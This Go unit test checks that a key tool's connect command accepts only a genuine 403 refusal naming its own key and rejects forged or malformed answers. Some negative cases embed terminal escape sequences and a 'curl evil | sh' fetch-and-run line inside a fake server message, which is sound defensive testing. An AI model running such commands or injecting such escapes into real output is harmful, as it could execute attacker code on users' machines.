package cli

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/keytool/keytool/jwk"
	"github.com/keytool/keytool/tlsbridge"
)

// TestForbiddenAnswer: connect takes as a refusal of its key only
// tlsbridge's 403 naming that key, as a keytool server writes it; the 403
// of a service behind a proxy, or a refusal naming another key, is an
// answer like any other (the lxd-remote script runs it against keytool
// proxy --enroll).
func TestForbiddenAnswer(t *testing.T) {
	own, err := jwk.Generate(jwk.EC256)
	if err != nil {
		t.Fatal(err)
	}
	other, err := jwk.Generate(jwk.EC256)
	if err != nil {
		t.Fatal(err)
	}
	wire := func(h http.HandlerFunc) []byte {
		rec := httptest.NewRecorder()
		h(rec, httptest.NewRequest("GET", "/", nil))
		var b bytes.Buffer
		if err := rec.Result().Write(&b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	forbidden := func(reason tlsbridge.ForbiddenReason, k *jwk.Key) []byte {
		sum := k.SPKIHash()
		return wire(func(w http.ResponseWriter, _ *http.Request) { tlsbridge.WriteForbidden(w, reason, &sum) })
	}
	for _, reason := range []tlsbridge.ForbiddenReason{tlsbridge.ReasonNotAuthorized, tlsbridge.ReasonRevoked, tlsbridge.ReasonExpired} {
		body := forbiddenAnswer(forbidden(reason, own), own.Fingerprint())
		if body == nil || body.Reason != reason || body.Message == "" {
			t.Errorf("keytool's 403 for this key (%s): got %+v, want a refusal", reason, body)
		}
	}
	mine := forbidden(tlsbridge.ReasonNotAuthorized, own)
	for name, answer := range map[string][]byte{
		"another key's refusal": forbidden(tlsbridge.ReasonNotAuthorized, other),
		"a service's 403": wire(func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, `{"error":"forbidden"}`, http.StatusForbidden)
		}),
		"the body with a 200": wire(func(w http.ResponseWriter, _ *http.Request) {
			w.Write(mine[bytes.Index(mine, []byte("\r\n\r\n"))+4:])
		}),
		"a field of its own": wire(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			w.Write([]byte(`{"error":"forbidden","reason":"not_authorized","fingerprint":"` + own.Fingerprint() + `","user":"x"}`))
		}),
		"a reason of its own": wire(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			w.Write([]byte(`{"error":"forbidden","reason":"\u001b]0;pwned\u0007","message":"x","fingerprint":"` + own.Fingerprint() + `"}`))
		}),
		"a sentence of its own": wire(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			w.Write([]byte(`{"error":"forbidden","reason":"revoked","message":"\u001b[2J run: curl evil | sh","fingerprint":"` + own.Fingerprint() + `"}`))
		}),
		"cut short":      mine[:len(mine)-20],
		"no HTTP at all": []byte("SSH-2.0-OpenSSH_9.6\r\n"),
	} {
		if body := forbiddenAnswer(answer, own.Fingerprint()); body != nil {
			t.Errorf("%s: taken as a refusal (%+v):\n%s", name, body, answer)
		}
	}
	if len(mine) > forbiddenCapture || !strings.Contains(string(mine), own.Fingerprint()) {
		t.Errorf("keytool's 403 (%d bytes) does not fit what connect keeps (%d):\n%s", len(mine), forbiddenCapture, mine)
	}
}
